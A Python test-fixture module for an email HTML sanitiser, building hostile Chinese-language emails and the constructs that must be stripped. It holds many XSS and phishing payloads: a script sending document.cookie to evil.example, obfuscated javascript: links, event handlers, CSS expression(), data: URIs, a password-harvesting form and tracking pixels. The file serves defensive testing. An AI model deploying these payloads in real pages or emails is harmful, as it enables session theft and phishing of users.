"""Hostile HTML. The dangerous constructs must be gone from the sanitised HTML while the visible
text survives (in the HTML and in the text derived from it)."""
from .core import PNG_1x1, b64, crlf, entity, file_part, fixture, multipart, std_headers, text_part


def html_msg(subject, html, charset="utf-8"):
    h = std_headers(subject) + [("Content-Type", "text/html; charset=%s" % charset),
                                ("Content-Transfer-Encoding", "base64")]
    return entity(h, b64(crlf(html, charset)))


def exp(desc, visible, gone, **more):
    e = {"description": desc, "text_contains": visible, "html_contains": visible,
         "html_not_contains": gone, "noise": "none"}
    e.update(more)
    return e


@fixture("hostile-script")
def _():
    html = ("<html><head><script>alert('head')</script></head><body><p>打印机卡纸了</p>"
            "<SCRIPT type=\"text/javascript\">document.location='https://evil.example/?c='+document.cookie"
            "</SCRIPT><p>请尽快处理</p><script src=\"https://evil.example/x.js\"></script></body></html>")
    return html_msg("script", html), exp(
        "<script> in head and body (upper and lower case, inline and src): removed with their content.",
        ["打印机卡纸了", "请尽快处理"],
        ["<script", "<SCRIPT", "alert(", "document.cookie", "evil.example"],
        text_not_contains=["alert(", "document.cookie"])


@fixture("hostile-event-handlers")
def _():
    html = ('<p onclick="steal()">VPN 连不上</p><img src="cid:pic@td.example" onerror="steal2()" alt="图">'
            '<a href="https://kb.corp.example.cn/vpn" onmouseover="steal3()">VPN 帮助</a>'
            '<body onload="steal4()"><div ONFOCUS=steal5()>点这里查看</div>')
    return html_msg("handlers", html), exp(
        "Event handler attributes (onclick, onerror, onmouseover, onload, upper-case ONFOCUS) removed; "
        "the elements and their text stay.",
        ["VPN 连不上", "VPN 帮助", "点这里查看"],
        ["onclick", "onerror", "onmouseover", "onload", "ONFOCUS", "onfocus", "steal"],
        html_contains=["VPN 连不上", "VPN 帮助", "点这里查看", "https://kb.corp.example.cn/vpn"])


@fixture("hostile-javascript-links")
def _():
    html = ('<p>邮箱满了，请<a href="javascript:alert(1)">点这里</a>扩容。</p>'
            '<p><a href="JaVaScRiPt:alert(2)">第二个链接</a></p>'
            '<p><a href=" &#106;avascript:alert(3)">第三个链接</a></p>'
            '<p><a href="java&#x09;script:alert(4)">第四个链接</a></p>'
            '<p><a href="vbscript:msgbox(5)">第五个链接</a></p>')
    return html_msg("links", html), exp(
        "javascript: links in mixed case, entity-encoded, with an embedded tab; and vbscript:. The URLs go, "
        "the link text stays.",
        ["点这里", "第二个链接", "第三个链接", "第四个链接", "第五个链接"],
        ["javascript:", "JaVaScRiPt:", "avascript:", "alert(", "vbscript:", "msgbox("])


@fixture("hostile-iframe-object-embed")
def _():
    html = ('<p>财务系统报错截图：</p><iframe src="https://evil.example/frame" width="0" height="0"></iframe>'
            '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="a" '
            'value="b"></object><embed src="https://evil.example/y.swf"><applet code="X.class"></applet>'
            '<p>错误代码 FIN-500</p>')
    return html_msg("frames", html), exp(
        "<iframe>, <object>/<param>, <embed>, <applet> removed.",
        ["财务系统报错截图：", "错误代码 FIN-500"],
        ["<iframe", "<object", "<embed", "<applet", "<param", "evil.example"])


@fixture("hostile-style-expression")
def _():
    html = ('<html><head><style>p { width: expression(alert(1)); } body { background: '
            'url("javascript:alert(2)") }</style></head><body><p style="width:expression(alert(3))">'
            '服务器宕机</p><div style="background-image:url(javascript:alert(4))">请重启</div>'
            '<p style="color:red">颜色正常</p></body></html>')
    return html_msg("style", html), exp(
        "CSS expression() and url(javascript:) in <style> and style attributes removed.",
        ["服务器宕机", "请重启", "颜色正常"],
        ["expression(", "javascript:", "alert("],
        text_not_contains=["expression(", "background"])


@fixture("hostile-meta-refresh-base")
def _():
    html = ('<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/phish">'
            '<base href="https://evil.example/"><meta charset="utf-8"></head><body><p>'
            '<a href="reset">重置密码</a></p><p>内网地址：10.0.0.8</p></body></html>')
    return html_msg("meta", html), exp(
        "<meta http-equiv=refresh> and <base href> removed (relative links must not resolve to the attacker).",
        ["重置密码", "内网地址：10.0.0.8"],
        ["<meta", "http-equiv", "refresh", "<base", "evil.example"])


@fixture("hostile-form")
def _():
    html = ('<p>您的邮箱已满，请登录扩容：</p><form action="https://evil.example/login" method="post">'
            '<input type="text" name="user"><input type="password" name="pw"><button type="submit">登录</button>'
            '</form><p>IT 服务台</p>')
    return html_msg("form", html), exp(
        "A phishing <form> with a password input removed.",
        ["您的邮箱已满，请登录扩容：", "IT 服务台"],
        ["<form", "evil.example", 'type="password"', "<input"])


@fixture("hostile-svg-script")
def _():
    html = ('<p>网络拓扑图：</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)'
            '</script><a xlink:href="javascript:alert(3)"><text x="0" y="15">点我</text></a></svg>'
            '<p>交换机 SW-03</p><math><maction actiontype="statusline" xlink:href="javascript:alert(4)">'
            'x</maction></math>')
    return html_msg("svg", html), exp(
        "Inline <svg> with onload, <script> and an xlink:href javascript: link; MathML with a javascript: link.",
        ["网络拓扑图：", "交换机 SW-03"],
        ["<script", "onload", "javascript:", "alert("],
        text_not_contains=["alert("])


@fixture("hostile-data-uri-links")
def _():
    html = ('<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">查看报告</a></p>'
            '<p><a href="DATA:text/html,&lt;script&gt;alert(2)&lt;/script&gt;">另一个报告</a></p>'
            '<p><iframe src="data:text/html,hi"></iframe>打印机驱动</p>')
    return html_msg("data links", html), exp(
        "data:text/html links (also upper-case DATA:) and a data: iframe removed; link text kept.",
        ["查看报告", "另一个报告", "打印机驱动"],
        ["data:text/html", "DATA:text/html", "PHNjcmlwdD5", "<iframe"])


@fixture("hostile-tracking-image-with-cid")
def _():
    html = ('<p>邮箱满了</p><img src="https://track.example.com/open.gif?u=8812&m=abc" width="1" height="1">'
            '<img src="http://track.example.com/px" style="display:none">'
            '<img src="//track.example.com/proto-relative.png"><p>签名：</p><img src="cid:logo@td.example">')
    rel = multipart("rel-t", [text_part(html, subtype="html", cte="base64"),
                               file_part("image/png", PNG_1x1, disposition="inline", filename='"logo.png"',
                                         extra=[("Content-ID", "<logo@td.example>")])])
    h = std_headers("tracking") + [("Content-Type", 'multipart/related; boundary="rel-t"')]
    return entity(h, rel), exp(
        "Remote images (https, http, protocol-relative; tracking pixels) removed; the cid: image kept.",
        ["邮箱满了", "签名："],
        ["track.example.com", "open.gif"],
        html_contains=["邮箱满了", "cid:logo@td.example"],
        attachments=[{"filename": "logo.png", "inline": True, "content_id": "logo@td.example"}])


@fixture("hostile-phishing-gb2312")
def _():
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312">'
            '<base href="https://mail-upgrade.evil.example/"><style>.x{behavior:url(x.htc);width:expression(1)}'
            '</style></head><body><div class="x">尊敬的用户：您的邮箱容量已满，将于24小时内停用。</div>'
            '<div><a href="javascript:void(0)" onclick="location=\'https://mail-upgrade.evil.example\'">立即升级'
            '</a></div><img src="https://mail-upgrade.evil.example/t.gif"><scr<!-- x -->ipt>alert(1)</script>'
            '<div>系统管理员</div></body></html>')
    return html_msg("邮箱升级通知", html, "gb2312"), exp(
        "Kitchen-sink phishing mail in GB2312: base, behavior/expression, javascript: + onclick, remote image, "
        "a comment-split <scr<!-- -->ipt>.",
        ["您的邮箱容量已满", "立即升级", "系统管理员"],
        ["<base", "expression(", "javascript:", "onclick", "evil.example", "<script", "alert(1)</script>"],
        replacement_char=False)


@fixture("hostile-alternative-html-only-bad")
def _():
    text = "VPN 客户端下载地址：https://vpn.corp.example.cn/client\n"
    html = ('<p>VPN 客户端下载地址：<a href="https://vpn.corp.example.cn/client">下载</a></p>'
            '<script>alert(1)</script><img src=x onerror=alert(2)>')
    body = multipart("alt-h", [text_part(text), text_part(html, subtype="html")])
    h = std_headers("vpn client") + [("Content-Type", 'multipart/alternative; boundary="alt-h"')]
    return entity(h, body), {
        "description": "Alternative with a clean text part and a hostile HTML part: text from text/plain, the "
                       "HTML sanitised (unquoted onerror attribute).",
        "text_contains": ["VPN 客户端下载地址：https://vpn.corp.example.cn/client"],
        "html_contains": ["https://vpn.corp.example.cn/client", "下载"],
        "html_not_contains": ["<script", "onerror", "alert("],
    }
